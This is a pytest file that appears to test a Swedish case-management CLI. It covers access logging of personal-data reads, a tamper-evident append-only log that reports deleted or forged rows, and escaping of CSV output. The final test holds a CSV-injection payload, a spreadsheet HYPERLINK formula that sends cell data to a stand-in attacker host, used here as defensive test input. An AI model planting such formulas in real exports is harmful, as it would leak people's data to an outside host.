"""Each command that shows a person's data logs it, and ``sip-desk log`` reviews the log."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import text as sql

from sip_desk import bootstrap
from sip_desk.cli import run
from sip_desk.db.access_log import read_entries
from sip_desk.db.append_only import append_only_statements
from sip_desk.domain.access import AccessKind, AccessQuery
from sip_desk.domain.plan import PlanDetail
from sip_desk.services.audit import log_read
from sip_desk.services.registry import Services
from tests.builders import PlanBuilder
from tests.services.follow_up_builders import FollowUpPlans


@pytest.fixture
def store(sqlite_services, sqlite_db, clock, monkeypatch) -> tuple[str, PlanDetail, PlanDetail]:
    """Alva (an overdue action and a booked meeting) and Bo; the CLI runs on the tests' clock."""
    plans = FollowUpPlans(sqlite_services, PlanBuilder(sqlite_services))
    alva = plans.meeting(plans.active(first_name="Alva"), 3)
    alva = plans.action(alva, -2, "Försenad insats")
    bo = plans.active(first_name="Bo")
    real = bootstrap.open_services
    monkeypatch.setattr(
        bootstrap,
        "open_services",
        lambda target, user=None, clock_=None, **kw: real(target, user=user, clock=clock, **kw),
    )
    return str(sqlite_db.path), alva, bo


def _logged(services: Services) -> list[tuple[AccessKind | str, int | None, int | None, str, str]]:
    with services.ctx.db.read_connection() as conn:
        rows = read_entries(conn, AccessQuery(limit=None))
    return [(r.kind, r.plan_id, r.person_id, r.user, f"{r.program} {r.command}") for r in rows]


def test_list_logs_each_person_shown_and_a_search_its_hits(store, sqlite_services, capsys):
    db, alva, bo = store

    assert run(["--db", db, "--user", "eva", "list"]) == 0
    assert run(["--db", db, "--user", "eva", "list", "--search", "Alva", "--json"]) == 0

    assert sorted(_logged(sqlite_services)) == sorted(
        [
            (AccessKind.LIST, alva.id, alva.person.id, "eva", "cli list"),
            (AccessKind.LIST, bo.id, bo.person.id, "eva", "cli list"),
            (AccessKind.SEARCH, alva.id, alva.person.id, "eva", "cli list"),
        ]
    )


def test_check_logs_the_plan_checked(store, sqlite_services, capsys):
    db, alva, _ = store

    run(["--db", db, "check", str(alva.id)])

    assert [r[:3] for r in _logged(sqlite_services)] == [
        (AccessKind.CHECK, alva.id, alva.person.id)
    ]


def test_followups_logs_the_worklist_and_its_calendar(store, sqlite_services, tmp_path, capsys):
    db, alva, _ = store

    assert run(["--db", db, "followups", "--ics", str(tmp_path / "f.ics")]) == 0

    assert [r[:3] + r[4:] for r in _logged(sqlite_services)] == [
        (AccessKind.WORKLIST, alva.id, alva.person.id, "cli followups"),
        (AccessKind.CALENDAR, alva.id, alva.person.id, "cli followups"),
    ]


def test_export_import_and_pdf_are_logged(store, sqlite_services, tmp_path: Path, capsys):
    db, alva, _ = store
    json_file, pdf_file = tmp_path / "a.json", tmp_path / "a.pdf"

    assert run(["--db", db, "export", str(alva.id), "-o", str(json_file)]) == 0
    assert run(["--db", db, "import", str(json_file), "--as-new"]) == 0
    assert run(["--db", db, "pdf", str(alva.id), "-o", str(pdf_file), "--no-seal"]) == 0

    kinds = [(r[0], r[4]) for r in _logged(sqlite_services)]
    assert kinds == [
        (AccessKind.EXPORT, "cli export"),
        (AccessKind.IMPORT, "cli import"),
        (AccessKind.EXPORT, "cli pdf"),
    ]


def test_log_shows_one_persons_reads_and_logs_the_review(store, sqlite_services, capsys):
    db, alva, bo = store
    run(["--db", db, "--user", "eva", "check", str(alva.id)])
    run(["--db", db, "--user", "eva", "check", str(bo.id)])
    capsys.readouterr()

    code = run(["--db", db, "--lang", "en", "--user", "isa", "log", "--person", bo_pnr(bo)])

    out = capsys.readouterr().out
    assert code == 0
    assert "completeness check" in out and "Bo Testsson" in out and "Alva" not in out
    assert "1 rows." in out and "Chain check: intact (3 rows in the access log" in out
    assert _logged(sqlite_services)[-1][0::3] == (AccessKind.LOG_REVIEW, "isa")


def bo_pnr(bo: PlanDetail) -> str:
    assert bo.person.identity_number
    return bo.person.identity_number


def test_log_csv_filters_by_user_and_dates_in_swedish(store, sqlite_services, capsys):
    db, alva, _ = store
    run(["--db", db, "--user", "eva", "check", str(alva.id)])
    run(["--db", db, "--user", "bo", "list"])
    capsys.readouterr()

    code = run(["--db", db, "log", "--user", "eva", "--since", "2026-11-23", "--csv"])
    captured = capsys.readouterr()

    rows = list(csv.reader(io.StringIO(captured.out)))
    assert code == 0
    assert rows[0] == ["När", "Användare", "Vad", "Person", "Plan", "Program", "Detalj"]
    assert [(r[1], r[2], r[4], r[5]) for r in rows[1:]] == [
        ("eva", "fullständighetskontroll", str(alva.id), "cli check")
    ]
    assert "Kedjekontroll: obruten" in captured.err


def test_log_exits_1_naming_a_removed_row(store, sqlite_services, capsys):
    db, alva, _ = store
    for _ in range(3):
        run(["--db", db, "check", str(alva.id)])
    with sqlite_services.ctx.db.engine.begin() as conn:
        for statement in append_only_statements("sqlite", drop=True):
            conn.execute(sql(statement))
        conn.execute(sql("DELETE FROM access_log WHERE id = 2"))
    capsys.readouterr()

    code = run(["--db", db, "--lang", "en", "log"])

    out = capsys.readouterr().out
    assert code == 1
    assert (
        "Chain check: BROKEN in the access log at row 3: "
        "one or more rows before it have been removed." in out
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "2026-13-01"], "2026-13-01 är inget datum; skriv det som ÅÅÅÅ-MM-DD."),
        (["--since", "2026-12-02", "--until", "2026-12-01"], "--since är senare än --until."),
        (["--person", "19840312"], "Personnumret ska skrivas ÅÅÅÅMMDD-NNNN"),
    ],
)
def test_log_refuses_bad_filters_with_a_message(store, capsys, args, message):
    db, _, _ = store

    code = run(["--db", db, "--lang", "sv", "log", *args])

    err = capsys.readouterr().err
    assert code == 2 and message in err and "Traceback" not in err


def test_log_shows_a_row_of_an_unknown_kind_flagged_instead_of_failing(
    store, sqlite_services, capsys
):
    db, alva, _ = store
    run(["--db", db, "--user", "eva", "check", str(alva.id)])
    with sqlite_services.ctx.db.engine.begin() as conn:  # a forged row, as a tester wrote it
        conn.execute(
            sql(
                "INSERT INTO access_log (at, user, unit, kind, person_id, plan_id, program, "
                "command, detail) VALUES ('2026-11-24 10:00:00', 'mallory', '', 'opened', "
                "NULL, :p, 'cli', '', '')"
            ),
            {"p": alva.id},
        )
    capsys.readouterr()

    code = run(["--db", db, "--lang", "en", "log"])

    out = capsys.readouterr().out
    assert code == 1  # the forged row breaks the chain; the review still runs
    assert "⚠ opened" in out and "mallory" in out and "completeness check" in out


def test_log_prints_the_newest_hash_and_count_of_both_logs(store, sqlite_services, capsys):
    db, alva, _ = store
    run(["--db", db, "check", str(alva.id)])
    capsys.readouterr()

    code = run(["--db", db, "--lang", "en", "log"])

    out = capsys.readouterr().out
    with sqlite_services.ctx.db.read_connection() as conn:
        tails = [
            conn.execute(
                sql(
                    f"SELECT count(*), (SELECT row_hash FROM {t} ORDER BY id DESC LIMIT 1) FROM {t}"
                )
            ).one()
            for t in ("access_log", "audit_entries")
        ]
    (access, access_hash), (audit, audit_hash) = tails
    assert code == 0
    assert (
        f"access log {access} rows, {access_hash}; audit trail {audit} rows, {audit_hash}." in out
    )


def test_dropped_append_only_triggers_are_recreated_when_the_store_is_opened(
    store, sqlite_services, capsys, caplog
):
    db, alva, _ = store
    with sqlite_services.ctx.db.engine.begin() as conn:
        for statement in append_only_statements("sqlite", drop=True):
            conn.execute(sql(statement))

    assert run(["--db", db, "check", str(alva.id)]) == 0

    assert "append-only triggers were missing and are recreated" in caplog.text
    engine = sqlite_services.ctx.db.engine
    with pytest.raises(Exception, match="append-only"), engine.begin() as conn:
        conn.execute(sql("DELETE FROM access_log WHERE id = 1"))
    with sqlite_services.ctx.db.read_connection() as conn:
        assert conn.execute(sql("SELECT count(*) FROM access_log WHERE id = 1")).scalar() == 1


def test_log_csv_cells_a_spreadsheet_would_compute_are_shown_as_text(
    store, sqlite_services, capsys
):
    """CSV injection: a user name, program or detail written to be run as a formula."""
    db, alva, _ = store
    link = '=HYPERLINK("https://evil.example/?d="&E2,"Öppna")'
    forged = replace(sqlite_services.ctx, program="=1+1", command="")
    log_read(forged, AccessKind.EXPORT, alva.id, alva.person.id, link)
    run(["--db", db, "--user", "@SUM(1+1)", "check", str(alva.id)])
    run(["--db", db, "--user=-2+3", "check", str(alva.id)])
    capsys.readouterr()

    assert run(["--db", db, "--lang", "en", "log", "--csv"]) == 0

    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    export = next(r for r in rows if r[5] != "cli check" and r[6])
    assert (export[5], export[6]) == ("'=1+1", "'" + link)
    assert {r[1] for r in rows} >= {"'@SUM(1+1)", "'-2+3"}
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
